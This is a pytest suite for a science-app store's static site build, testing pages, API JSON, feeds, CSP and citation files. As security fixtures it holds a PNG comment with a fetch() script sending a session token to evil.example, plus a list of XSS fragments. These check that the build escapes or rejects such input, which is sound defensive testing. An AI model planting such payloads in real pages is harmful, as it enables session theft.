"""`sciapps site build`: every page and file of the store, safe and complete."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from xml.etree import ElementTree as ET

import jsonschema
import pytest
from click.testing import CliRunner
from dataclasses import replace

from sciapps.cli import cli
from sciapps.config import load_config
from sciapps.site.build import build_store
from tests.conftest import CASES, GAIA, REPO, XMM
from tests.site.conftest import html

EXAMPLES = sorted(p.name for p in (REPO / "datalabs").iterdir() if p.is_dir())


def test_every_page_is_there(store):
    folder, report = store
    for page in ["", "browse", "bookmarks", "missions", "missions/gaia", "reference/datalab-yaml", "reference/rules", "about"]:
        assert (folder / page / "index.html").is_file(), page
    for name in EXAMPLES + ["xss-attempt"]:
        assert (folder / "datalabs" / name / "index.html").is_file(), name
    assert not (folder / "datalabs" / "_template").exists()
    for hidden in ("draft-one", "private-one", "broken-one"):
        assert not (folder / "datalabs" / hidden).exists()
    assert [f.name for f, _ in report.skipped] == ["broken-one"]
    assert "DL-022" in report.skipped[0][1]


GAIA_DIGEST = "sha256%3A" + hashlib.sha256(f"gaia-dr3-hrd {GAIA} 1".encode()).hexdigest()  # tests/releases/records.py


def test_api(store):
    folder, _ = store
    catalog = json.loads((folder / "api" / "catalog.json").read_text())
    ids = sorted(d["id"] for d in catalog["datalabs"])
    assert ids == sorted(EXAMPLES + ["xss-attempt"]) and catalog["count"] == len(ids)
    gaia = json.loads((folder / "api" / "datalabs" / "gaia-dr3-hrd.json").read_text())
    assert gaia["urls"]["launch"] == f"https://datalabs.esa.int/launch?datalab=gaia-dr3-hrd&version={GAIA}&digest={GAIA_DIGEST}"
    assert gaia["ci"]["test"]["status"] == "passed" and gaia["feedback"]["total"] == 3  # the current release's checks
    assert [(v["version"], v["build"], v["verified"]) for v in gaia["versions"]] == [
        (GAIA, 1, True),
        ("1.2.0", 1, True),
        ("1.1.0", 1, True),
    ]
    assert gaia["release"]["version"] == GAIA and gaia["versions"][2]["image"].startswith(
        "127.0.0.1:5000/sciapps/gaia-dr3-hrd@sha256:"
    )
    assert "--set image.digest=sha256:" in gaia["versions"][2]["helm"] and "--version 1.1.0" in gaia["versions"][2]["helm"]
    # the parameter schema each launcher reads, with the pattern of the mission data it selects
    assert [(p["name"], p["type"], p.get("pattern"), p.get("default"), p.get("example")) for p in gaia["parameters"]] == [
        ("source_id", "string", "^[0-9]{1,19}$", None, "4295806720"),  # an id is the scientist's to give
        ("max_distance_pc", "number", None, 100, None),
    ]
    schema = gaia["launch_schema"]
    jsonschema.validate({"source_id": "4295806720", "max_distance_pc": 50}, schema)
    for bad in ({"source_id": "x"}, {"max_distance_pc": 500}, {"other": 1}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(bad, schema)
    assert gaia["resource_limits"] == {"cpu": {"min": 0.25, "max": 4}, "memory_gb": {"min": 0.5, "max": 8}}
    assert gaia["urls"]["launch_page"] == f"launch/?datalab=gaia-dr3-hrd&version={GAIA}"
    xmm = json.loads((folder / "api" / "datalabs" / "xmm-epic-spectrum-fit.json").read_text())
    assert [v["version"] for v in xmm["versions"]] == [XMM]  # the forged 2.0.1 is not offered
    assert xmm["unreadable_records"] == ["the record is not signed with the catalog's key"]
    opened = json.loads((folder / "api" / "open" / "xmm-newton.json").read_text())
    assert opened["kinds"]["obsid"]["pattern"] == "^[0-9]{10}$"
    assert [(d["id"], d["parameter"], d["version"]) for d in opened["datalabs"]] == [("xmm-epic-spectrum-fit", "obsid", XMM)]
    euclid = json.loads((folder / "api" / "open" / "euclid.json").read_text())  # its one release's test failed
    assert [(d["id"], d["version"]) for d in euclid["datalabs"]] == [("euclid-q1-photoz", None)]
    signed = json.loads((folder / "api" / "datalabs" / "euclid-q1-photoz.json").read_text())
    assert signed["urls"]["launch"] is None and not signed["release"]["verified"]
    assert signed["release"]["why"] == "signed, but its test failed: 1 of 1 notebooks failed"
    assert not (folder / "api" / "open" / "planck.json").exists()  # the catalog declares no planck ids
    assert (folder / "keys" / "release.pub").read_text().startswith("-----BEGIN PUBLIC KEY-----")
    published = json.loads((folder / "schemas" / "datalab.schema.json").read_text())
    assert published == json.loads((REPO / "schemas" / "datalab.schema.json").read_text())
    assert (folder / "schemas" / "datalab" / "v1" / "datalab.schema.json").is_file()


def test_atom_feed(store):
    folder, _ = store
    ns = {"a": "http://www.w3.org/2005/Atom"}
    feed = ET.parse(folder / "feed.xml").getroot()
    entries = feed.findall("a:entry", ns)
    assert len(entries) == len(EXAMPLES) + 1
    first = entries[0]
    assert first.find("a:title", ns).text == f"XMM-Newton EPIC spectrum fit {XMM}"  # the newest
    assert first.find("a:link", ns).get("href") == "https://sciapps.datalabs.esa.int/datalabs/xmm-epic-spectrum-fit/"
    assert "What is new: An icon for its card and page in the store" in first.find("a:summary", ns).text


def test_versions_and_checks_on_the_page(store):
    folder, _ = store
    page = html(folder, "datalabs/gaia-dr3-hrd")
    assert f"Version {GAIA}, build 1, published 2026-11-20:\n        <strong>verified</strong>" in page
    assert page.count('class="sa-version sa-version--verified"') == 3 and "Launch 1.1.0" in page
    first = "sha256:" + hashlib.sha256(b"gaia-dr3-hrd 1.1.0 1").hexdigest()  # tests/releases/records.py
    assert f"sciapps verify gaia-dr3-hrd@{first}" in page  # this build, not whichever build the version has now
    assert (
        f'<a class="md-button md-button--primary sa-launch" href="#sa-launch-with">Launch {GAIA} · build 1 on your data</a>'
        in page
    )
    start = page.index('<aside class="sa-history"')
    versions = page[start : page.index("</aside>", start)]
    assert "sa-changelog" not in page and "<li>First release</li>" in versions  # the changelog is told in Versions
    assert versions.index(f">{GAIA}") < versions.index(">1.2.0") < versions.index(">1.0.0") and "Never published." in versions
    planck = html(folder, "datalabs/planck-cmb-map-viewer")
    assert "has no release yet" in planck and "not published yet" in planck and "No version has been published yet." in planck
    assert "Not published yet." in planck[planck.index('<aside class="sa-history"') :]
    assert "Nothing to launch yet: version" in planck and "sa-launch" not in planck and "sa-badge" not in planck
    xmm = html(folder, "datalabs/xmm-epic-spectrum-fit")
    assert "1 release record could not be verified: the record is not signed with the catalog&#39;s key." in xmm


def test_datalab_page_content(store):
    folder, _ = store
    page = html(folder, "datalabs/gaia-dr3-hrd")
    assert page.count("<h1") == 1
    assert "<title>Gaia DR3 Hertzsprung-Russell diagram - SciApps</title>" in page
    assert "datalabs.esa.int/launch?" not in page  # a datalab with parameters starts from its form or launch/ only
    assert f'href="../../launch/?datalab=gaia-dr3-hrd&amp;version={GAIA}&amp;digest={GAIA_DIGEST}"' in page
    assert "/data/gaia/dr3" in page and "gaia_dr3_source" in page
    assert "Made my HRD figure in minutes." in page
    assert "signed, but its test failed: 1 of 1 notebooks failed" in html(folder, "datalabs/euclid-q1-photoz")
    # what it opens on, under its summary, on every page that has parameters (with a release or not)
    assert (
        '<p class="sa-datalab__takes"><strong>Takes</strong> Source to mark: Gaia DR3 source id (1 to 19 digits); '
        "Distance limit (pc): a number from 10 to 100.</p>"
    ) in page
    shot = (REPO / "datalabs" / "gaia-dr3-hrd" / "screenshots" / "hr_diagram.png").read_bytes()
    published = folder / "datalabs" / "gaia-dr3-hrd" / "media" / f"{hashlib.sha256(shot).hexdigest()[:20]}.png"
    assert published.read_bytes() == shot and f'src="../../datalabs/gaia-dr3-hrd/media/{published.name}"' in page
    assert "&lt;script&gt;alert(&#39;feedback&#39;)" in page
    archived = html(folder, "datalabs/herschel-spire-photometry")
    assert "Archived on 2026-07-01." in archived and "sa-launch" not in archived
    assert "No release of it is on record." in archived and "Not published yet." not in archived  # never "yet"


def test_the_page_says_how_old_its_feedback_is(store):
    folder, _ = store
    assert "Feedback as of 2026-11-20." in html(folder, "datalabs/gaia-dr3-hrd")  # the export's date, not the build's


def test_nothing_from_metadata_becomes_markup(store):
    folder, _ = store
    page = html(folder, "datalabs/xss-attempt")
    for attack in ("<script>alert(", "<img src=x", 'href="javascript', "<iframe"):
        assert attack not in page, attack  # as text, escaped, they are harmless
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt; XSS probe" in page
    index = (folder / "search" / "index.json").read_text()
    assert json.loads(index)["docs"]["rows"]  # the JS inserts these with textContent


_INLINE = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>(.*?)</script>", re.S)


@pytest.mark.parametrize("page", ["", "browse", "datalabs/gaia-dr3-hrd", "reference/rules", "create"])
def test_content_security_policy_allows_only_the_sites_scripts(store, page):
    text = html(store[0], page)
    csp = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text).group(1)
    assert "default-src 'self'" in csp and "object-src 'none'" in csp and "'unsafe-inline'" not in csp.split("style-src")[0]
    for body in _INLINE.findall(text):
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in csp
    assert text.index("Content-Security-Policy") < text.index("<script")


def test_only_the_create_page_may_connect_to_the_catalogs_gitlab(store):
    def connect(page):
        return re.search(r"connect-src ([^;]+);", html(store[0], page)).group(1)

    assert connect("create") == "'self' https://gitlab.esa.int"  # gitlab.url in sciapps.yaml
    assert connect("") == connect("browse") == connect("datalabs/gaia-dr3-hrd") == "'self'"
    settings = json.loads(re.search(r'id="sa-create-config">(.*?)</script>', html(store[0], "create")).group(1))
    assert settings["gitlab"]["project"] == "datalabs/sciapps" and settings["limits"]["notebook_mb"] == 10
    assert "Checklist for the moderator" in settings["checklist"]


def test_spdx_ids_for_the_licence_picker(store):
    spdx = json.loads((store[0] / "api" / "spdx.json").read_text())
    assert {"MIT", "BSD-3-Clause", "GPL-3.0-or-later"} <= set(spdx["ids"]) and "Classpath-exception-2.0" in spdx["exceptions"]
    assert spdx["symbols"]["apache-2.0"] == "Apache-2.0" and not any(i.startswith("LicenseRef-") for i in spdx["ids"])


def test_vendored_browser_libraries_match_their_pinned_versions():
    """create-deps.min.js is bundled from site/vendor/package.json (npm run bundle); its
    licence file names each package and version, so a bundle from other versions shows."""
    pinned = json.loads((REPO / "site/vendor/package.json").read_text())["devDependencies"]
    lock = json.loads((REPO / "site/vendor/package-lock.json").read_text())["packages"]
    licences = (REPO / "site/docs/assets/vendor/create-deps-LICENSES.txt").read_text()
    for name, version in pinned.items():
        assert lock[f"node_modules/{name}"]["version"] == version
        if name != "esbuild":
            assert f"{name} {version} " in licences


def test_failed_build_keeps_the_published_site(tmp_path, monkeypatch):
    out = tmp_path / "public"
    out.mkdir()
    (out / "index.html").write_text("the published store")
    (out / ".sciapps-store").write_text("a previous store build")

    def broken(*args, **kwargs):
        raise RuntimeError("engine crashed")

    monkeypatch.setattr("sciapps.site.engine_mkdocs.build", broken)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    result = CliRunner().invoke(cli, ["site", "build", "--out", str(out), "--config", str(REPO / "sciapps.yaml")])
    assert result.exit_code == 3
    assert (out / "index.html").read_text() == "the published store"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["public", "sciapps"]


def test_cli_exit_codes(tmp_path):
    ok = CliRunner().invoke(cli, ["site", "build", "--out", str(tmp_path / "a"), "--config", str(REPO / "sciapps.yaml")])
    assert ok.exit_code == 0, ok.output
    assert "Built the store with 8 datalabs" in ok.output
    skipped = CliRunner().invoke(
        cli,
        [
            "site",
            "build",
            "--out",
            str(tmp_path / "b"),
            "--catalog",
            str(CASES / "store"),
            "--config",
            str(REPO / "sciapps.yaml"),
        ],
    )
    assert skipped.exit_code == 1
    assert "left out of the store" in skipped.output and "broken-one" in skipped.output


def test_sitemap_lists_datalab_pages(store):
    folder, _ = store
    text = (folder / "sitemap.xml").read_text()
    assert "https://sciapps.datalabs.esa.int/datalabs/gaia-dr3-hrd/" in text
    assert "https://sciapps.datalabs.esa.int/browse/" in text


def _small_catalog(tmp_path):
    """A repository-like folder: sciapps.yaml, one example datalab and one with a tagged value."""
    import shutil

    root = tmp_path / "repo"
    shutil.copytree(REPO / "datalabs" / "gaia-dr3-hrd", root / "datalabs" / "gaia-dr3-hrd")
    shutil.copytree(REPO / "datalabs" / "topcat-desktop", root / "datalabs" / "topcat-desktop")
    tagged = root / "datalabs" / "topcat-desktop" / "datalab.yaml"
    tagged.write_text(tagged.read_text().replace("keywords:", "extra: !!binary aGVsbG8=\nkeywords:", 1))
    (root / "sciapps.yaml").write_text((REPO / "sciapps.yaml").read_text())
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    return root


@pytest.mark.parametrize("target", [".", "datalabs", "datalabs/gaia-dr3-hrd", "datalabs/new", ".git", "site", "notes.txt"])
def test_site_build_never_deletes_what_it_did_not_build(tmp_path, target):
    root = _small_catalog(tmp_path)
    (root / "site").mkdir()
    (root / "site" / "sources.md").write_text("the site's sources")
    (root / "notes.txt").write_text("notes")
    before = sorted(p.relative_to(root).as_posix() for p in root.rglob("*"))
    result = CliRunner().invoke(
        cli,
        [
            "site",
            "build",
            "--out",
            str(root / target),
            "--config",
            str(root / "sciapps.yaml"),
            "--mkdocs-config",
            str(REPO / "mkdocs.yml"),
        ],
    )
    assert result.exit_code == 2 and "Traceback" not in result.output, result.output
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*")) == before


def test_a_datalab_with_a_tagged_value_is_left_out_and_the_store_still_builds(tmp_path):
    root = _small_catalog(tmp_path)
    out = root / "public"
    args = [
        "site",
        "build",
        "--out",
        str(out),
        "--config",
        str(root / "sciapps.yaml"),
        "--mkdocs-config",
        str(REPO / "mkdocs.yml"),
    ]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1, result.output
    assert "DL-008" in result.output and "Traceback" not in result.output
    assert (out / "datalabs" / "gaia-dr3-hrd" / "index.html").is_file()
    assert not (out / "datalabs" / "topcat-desktop").exists()
    # a previous store build may be replaced: the same command again
    (out / "stale.html").write_text("from the previous build")
    assert CliRunner().invoke(cli, args).exit_code == 1
    assert not (out / "stale.html").exists() and (out / "datalabs" / "gaia-dr3-hrd" / "index.html").is_file()


def _picture_with_a_script() -> bytes:
    """A real PNG that carries `<script>` in a text chunk."""
    import io

    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<html><script>fetch('https://evil.example/?t='+sessionStorage.token)</script></html>")
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "PNG", pnginfo=info)
    return out.getvalue()


@pytest.mark.parametrize(
    "field, name",
    [
        ("screenshot", "screenshots/shot.html"),
        ("icon", "index.html"),
        ("icon", "icon.svg"),
        ("screenshot", "screenshots/shot.xml"),
        ("icon", "icon"),
    ],
)
def test_a_picture_is_never_published_as_a_page(tmp_path, field, name):
    """Validation refuses the name (DL-042); and whatever reaches the store is published under
    a name from its content, never over a page."""
    import shutil

    from sciapps.catalog.loader import load_datalab
    from sciapps.config import load_config
    from sciapps.site.data import picture_names

    folder = tmp_path / "datalabs" / "gaia-dr3-hrd"
    shutil.copytree(REPO / "datalabs" / "gaia-dr3-hrd", folder)
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(_picture_with_a_script())
    metadata = folder / "datalab.yaml"
    text = metadata.read_text()
    text = text.replace(
        "screenshots/hr_diagram.png" if field == "screenshot" else "icon: icon.png", f"icon: {name}" if field == "icon" else name
    )
    metadata.write_text(text)
    config = load_config(REPO / "sciapps.yaml")
    from tests.conftest import findings_for, rule_ids

    assert rule_ids(findings_for(folder, config)) == ["DL-042"]
    import yaml

    names = picture_names(folder, yaml.safe_load(metadata.read_text()), 2 * 1024 * 1024)
    assert names[name].startswith("media/") and names[name].endswith(".png")
    assert load_datalab(folder, config.limits).id == "gaia-dr3-hrd"


def test_control_characters_never_reach_the_feed(tmp_path):
    """Validation refuses them (DL-024); the feed writer drops what XML cannot hold all the same."""
    from sciapps.site.data import write_feed

    entry = {
        "id": "x",
        "name": "Gaia\x01 HRD\x1b[31m",
        "version": "1.0.0",
        "urls": {"page": "datalabs/x/"},
        "updated": "2026-01-01",
        "created": None,
        "maintainers": [{"name": "Ada\x0b"}],
        "changelog": [],
        "summary": "Sum\x00mary",
        "missions": [],
    }
    write_feed(tmp_path, [entry], "https://store.example.org", "Store")
    feed = ET.parse(tmp_path / "feed.xml").getroot()  # well-formed
    assert "Gaia\ufffd HRD\ufffd[31m 1.0.0" in ET.tostring(feed, encoding="unicode")


def test_an_icon_that_is_also_a_screenshot_is_published_once(tmp_path):
    import shutil

    root = _small_catalog(tmp_path)
    lab = root / "datalabs" / "gaia-dr3-hrd"
    shutil.copy(lab / "screenshots" / "hr_diagram.png", lab / "icon.png")  # the same bytes under another name
    assert "icon: icon.png\n" in (lab / "datalab.yaml").read_text()
    out = root / "public"
    result = CliRunner().invoke(
        cli,
        ["site", "build", "--out", str(out), "--config", str(root / "sciapps.yaml"), "--mkdocs-config", str(REPO / "mkdocs.yml")],
    )
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output  # 1: topcat-desktop is left out
    published = list((out / "datalabs" / "gaia-dr3-hrd" / "media").iterdir())
    assert len(published) == 1 and published[0].read_bytes() == (lab / "icon.png").read_bytes()
    page = (out / "datalabs" / "gaia-dr3-hrd" / "index.html").read_text()
    assert page.count(f"media/{published[0].name}") == 2


def test_home_does_not_repeat_featured_and_cards_show_version_and_update(store):
    import re as _re

    folder, _ = store
    home = html(folder, "")
    featured, newest = home.split('id="sa-featured"', 1)[1].split('id="sa-newest"', 1)
    ids = lambda part: _re.findall(r'<article class="sa-card[^"]*" data-id="([^"]+)"', part)  # noqa: E731
    assert ids(featured) and not set(ids(featured)) & set(ids(newest.split('id="sa-by-mission"')[0]))
    gaia = json.loads((folder / "api" / "datalabs" / "gaia-dr3-hrd.json").read_text())
    assert f"Version {GAIA} · updated {gaia['changelog'][0]['date']}" in featured  # its newest changelog entry


def test_pages_written_by_several_processes_are_the_pages_one_writes(tmp_path, monkeypatch):
    """At 500 datalabs and more the datalab pages are written by forked processes: the same
    files, byte for byte, as one process writes."""
    from sciapps.site import engine_mkdocs

    config = replace(load_config(REPO / "sciapps.yaml"), path=tmp_path / "sciapps.yaml")
    built = {}
    for jobs, start in ((1, 500), (2, 0)):
        monkeypatch.setattr(engine_mkdocs, "PARALLEL_FROM", start)
        out = build_store(
            config, [REPO / "datalabs", CASES / "store"], tmp_path / f"public-{jobs}", REPO / "mkdocs.yml", jobs
        ).out
        pages = sorted((out / "datalabs").rglob("*"))
        built[jobs] = {str(p.relative_to(out)): p.read_bytes() for p in pages if p.is_file()}
    assert built[1].keys() == built[2].keys() and len(built[1]) > 20
    differ = [name for name in built[1] if built[1][name] != built[2][name]]
    assert differ == []


def test_cite_this_version(store):
    """A verified release's page says how to cite exactly that build, and the store
    publishes its CITATION.cff, CodeMeta and RO-Crate (their validity: tests/test_citing.py)."""
    import yaml

    folder, _ = store
    gaia = json.loads((folder / "api" / "datalabs" / "gaia-dr3-hrd.json").read_text())
    cite = gaia["cite"]
    assert (cite["version"], cite["build"], cite["doi"]) == (GAIA, 1, None)
    assert cite["files"]["CITATION.cff"] == f"datalabs/gaia-dr3-hrd/cite/{GAIA}-build1/CITATION.cff"
    cff = yaml.safe_load((folder / cite["files"]["CITATION.cff"]).read_text())
    assert cff["version"] == f"{GAIA}+build.1" and cff["identifiers"][-1]["value"] == gaia["release"]["image"]
    assert cff["authors"] == [
        {"family-names": "Lindqvist", "given-names": "Marta", "orcid": "https://orcid.org/0000-0002-1825-0097"}
    ]
    assert json.loads((folder / cite["files"]["codemeta.json"]).read_text())["version"] == GAIA
    assert json.loads((folder / cite["files"]["ro-crate-metadata.json"]).read_text())["@graph"][1]["version"] == GAIA
    page = html(folder, "datalabs/gaia-dr3-hrd")
    assert '<h2 id="sa-cite-version">Cite this version</h2>' in page and gaia["release"]["digest"] in page
    assert f'href="../../datalabs/gaia-dr3-hrd/cite/{GAIA}-build1/CITATION.cff" download="CITATION.cff"' in page
    assert "@software{gaia_dr3_hrd_" in page
    euclid = json.loads((folder / "api" / "datalabs" / "euclid-q1-photoz.json").read_text())
    assert euclid["cite"] is None  # signed, but its test failed: nothing to cite as working
    # every verified build is citable, each with its own files
    older = [v for v in gaia["versions"] if v["version"] == "1.1.0"][0]
    cff = yaml.safe_load((folder / older["cite"]["files"]["CITATION.cff"]).read_text())
    assert cff["version"] == "1.1.0+build.1" and cff["identifiers"][-1]["value"] == older["image"]
    assert 'href="../../datalabs/gaia-dr3-hrd/cite/1.1.0-build1/CITATION.cff" download="CITATION.cff">CITATION.cff</a>' in page
